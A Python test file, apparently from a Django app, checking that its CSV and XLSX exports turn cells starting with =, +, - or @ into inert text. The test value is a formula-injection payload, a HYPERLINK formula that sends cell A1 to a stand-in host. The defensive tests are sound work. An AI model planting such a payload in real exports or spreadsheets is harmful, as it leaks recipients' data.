"""Formula-safe exports: text starting with =, +, -, @ is written as text (a leading ' in CSV, a string cell
with Excel's quote prefix in .xlsx), in every export writer."""

import csv
import io

from django.test import Client
from openpyxl import load_workbook

from uplift.registry.actions import entrepreneur_update
from uplift.security import cells

ATTACK = '=HYPERLINK("http://example.invalid/?x="&A1,"คลิก")'


def test_the_rule():
    assert cells.csv_row([ATTACK, "+66", "-1", "@SUM(1)", "กลุ่มทอผ้า", 5, None]) == [
        "'" + ATTACK, "'+66", "'-1", "'@SUM(1)", "กลุ่มทอผ้า", 5, None]


def _admin(world) -> Client:
    client = Client()
    client.force_login(world.admin)
    return client


def test_the_registry_csv_export_writes_formulas_as_text(world):
    entrepreneur_update(actor=world.admin, pk=world.phuket.pk, data={"name_en": ATTACK})
    body = _admin(world).get("/imports/export/entrepreneurs.csv").content.decode("utf-8-sig")
    names = {row[1] for row in csv.reader(io.StringIO(body))}
    assert "'" + ATTACK in names and ATTACK not in names


def test_the_registry_xlsx_export_writes_formulas_as_text(world):
    entrepreneur_update(actor=world.admin, pk=world.phuket.pk, data={"name_en": ATTACK})
    body = _admin(world).get("/imports/export/entrepreneurs.xlsx").content
    sheet = load_workbook(io.BytesIO(body)).active
    found = [c for row in sheet.iter_rows() for c in row if c.value == ATTACK]
    assert found and all(c.data_type == "s" and c.quotePrefix for c in found)


def test_whole_workbooks_lose_their_formulas_before_saving():
    """The import problems report and the programme report build whole workbooks: they pass through this."""
    from openpyxl import Workbook

    book = Workbook()
    book.active.append([ATTACK, "กลุ่มทอผ้า", 3])
    cells.xlsx_workbook(book)
    out = io.BytesIO()
    book.save(out)
    saved = load_workbook(io.BytesIO(out.getvalue())).active
    assert [c.data_type for c in saved[1]] == ["s", "s", "n"] and saved["A1"].value == ATTACK
